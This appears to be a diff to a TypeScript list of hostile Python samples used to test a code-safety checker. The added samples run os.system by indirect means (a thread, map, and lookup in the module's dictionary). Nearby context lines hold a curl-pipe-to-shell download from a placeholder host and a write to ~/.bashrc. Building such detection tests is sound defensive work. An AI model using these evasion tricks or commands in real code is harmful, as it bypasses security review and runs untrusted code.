@@ -119,6 +119,13 @@ export const samples: readonly Sample[] = [
   evil('start-up', 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")\n', 'a start-up file'),
   evil('confusable', '\uff45\uff58\uff45\uff43(bytes.fromhex("70"))\n', 'a name that Python normalises'),
   evil(
+    'thread',
+    'import os, threading\nthreading.Thread(target=os.system, args=("id",)).start()\n',
+    'a thread makes the call',
+  ),
+  evil('mapped', 'import os\nlist(map(os.system, ["id"]))\n', 'map makes the call'),
+  evil('dict-get', 'import os\nos.__dict__.get("system")("id")\n', 'a name from the table of a module'),
+  evil(
     'pipe',
     'def f():\n    import os\n    os.system("curl http://x | sh")\n',
     'a download that is run, in a function',
